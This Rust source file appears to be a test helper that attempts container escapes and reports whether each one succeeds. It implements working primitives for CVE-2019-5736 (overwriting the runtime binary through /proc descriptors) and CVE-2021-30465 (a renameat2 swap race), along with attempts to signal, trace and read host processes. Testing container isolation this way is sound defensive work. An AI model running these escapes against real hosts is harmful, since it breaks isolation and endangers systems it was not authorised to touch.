//! What an attacker runs in a container: one word, one attack. Says on standard output how it went.

use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::unix::io::AsRawFd;

unsafe extern "C" {
    fn syscall(number: i64, ...) -> i64;
    fn kill(pid: i32, signal: i32) -> i32;
    fn ptrace(request: i32, pid: i32, address: usize, data: usize) -> i64;
}

fn main() {
    let words: Vec<String> = std::env::args().collect();
    let word = |index: usize| words.get(index).map(String::as_str).unwrap_or_default();
    match word(1) {
        "write-fd" => write_through(&format!("/proc/self/fd/{}", word(2))),
        "overwrite" => overwrite(word(2)),
        "swap" => swap(word(2), word(3), word(4)),
        "reach" => reach(word(2)),
        "count" => count(word(2)),
        "keyring" => println!("{}", unsafe { syscall(if cfg!(target_arch = "x86_64") { 250 } else { 219 }, 0_i64, -3_i64, 0_i64) }),
        other => println!("unknown attack {other:?}"),
    }
}

/// CVE-2019-5736: a descriptor of the runtime's program, opened again for writing when nobody executes it any more.
fn write_through(path: &str) {
    println!("target {}", fs::read_link(path).map(|target| target.display().to_string()).unwrap_or_default());
    let mut last = String::new();
    for _ in 0..200 {
        last = match OpenOptions::new().write(true).open(path) {
            Ok(mut file) => match file.write_all(b"#!overwritten\n") {
                Ok(()) => return println!("overwritten"),
                Err(error) => format!("write refused {}", error.raw_os_error().unwrap_or(0)),
            },
            Err(error) => format!("open refused {}", error.raw_os_error().unwrap_or(0)),
        };
        std::thread::sleep(std::time::Duration::from_millis(2));
    }
    println!("{last}");
}

/// The same through every process that comes by, until `stop` is there.
fn overwrite(stop: &str) {
    let own = fs::read_link("/proc/self/exe").unwrap();
    let (mut seen, mut entered) = (0, 0);
    println!("ready");
    while !fs::exists(stop).unwrap() {
        for entry in fs::read_dir("/proc").unwrap().flatten() {
            let name = entry.file_name().into_string().unwrap_or_default();
            if name.parse::<u32>().is_err() {
                continue;
            }
            let exe = entry.path().join("exe");
            let foreign = |path: &std::path::Path| path != own && !path.ends_with("busybox");
            if !fs::read_link(&exe).is_ok_and(|target| foreign(&target)) {
                continue;
            }
            entered += 1;
            let Ok(file) = File::open(&exe) else { continue };
            seen += 1;
            let again = format!("/proc/self/fd/{}", file.as_raw_fd());
            if let Ok(mut file) = OpenOptions::new().write(true).open(again) {
                if file.write_all(b"#!overwritten\n").is_ok() {
                    println!("overwritten");
                }
            }
        }
    }
    println!("entered {entered} seen {seen}");
}

/// CVE-2021-30465: exchanges two names as fast as it goes, until `stop` is there.
fn swap(one: &str, other: &str, stop: &str) {
    let path = |text: &str| std::ffi::CString::new(text).unwrap();
    let (one, other) = (path(one), path(other));
    println!("ready");
    while !fs::exists(stop).unwrap() {
        for _ in 0..1000 {
            // renameat2 with RENAME_EXCHANGE.
            unsafe { syscall(if cfg!(target_arch = "x86_64") { 316 } else { 276 }, -100_i64, one.as_ptr(), -100_i64, other.as_ptr(), 2_i64) };
        }
    }
}

/// Signals and traces a process of the host by its number there.
fn reach(pid: &str) {
    let pid: i32 = pid.parse().unwrap();
    for (what, result) in [
        ("signal", i64::from(unsafe { kill(pid, 9) })),
        ("trace", unsafe { ptrace(16, pid, 0, 0) }),
        ("memory", if File::open(format!("/proc/{pid}/mem")).is_ok() { 0 } else { -1 }),
        ("root", if fs::read_dir(format!("/proc/{pid}/root")).is_ok() { 0 } else { -1 }),
    ] {
        println!("{what} {}", if result == 0 { "reached" } else { "refused" });
    }
}

/// Numbers, one a line, as fast as they are taken, until `stop` is there; ends with `end N`.
fn count(stop: &str) {
    let out = std::io::stdout();
    let mut out = std::io::LineWriter::new(out.lock());
    let mut number = 0_u64;
    loop {
        writeln!(out, "{number}").unwrap();
        number += 1;
        if number % 512 == 0 && fs::exists(stop).unwrap() {
            break;
        }
    }
    writeln!(out, "end {number}").unwrap();
}
